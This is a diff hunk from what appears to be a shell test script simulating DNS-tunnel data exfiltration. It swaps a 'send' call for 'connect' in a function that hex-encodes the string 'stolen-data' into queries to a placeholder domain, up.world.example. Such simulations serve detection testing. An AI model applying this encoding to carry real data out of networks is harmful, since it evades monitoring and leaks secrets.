@@ -551,7 +551,7 @@ adaptive_records_tampered() {
 # A machine of the office carries data away as names, which named asks of the provider.
 adaptive_client_tunnel() {
 	local names
-	harm send "$peer_address:5353"
+	harm connect "$peer_address:5353"
 	mapfile -t names < <(seq 3000 | sha512sum | fold -w 2 | head -n 60 | sed 's/ *-*$/secret.up.world.example/')
 	ask_name "${names[@]}" +short >/dev/null
 	ask_name "$(printf stolen-data | od -An -tx1 | tr -d ' \n').up.world.example" >/dev/null
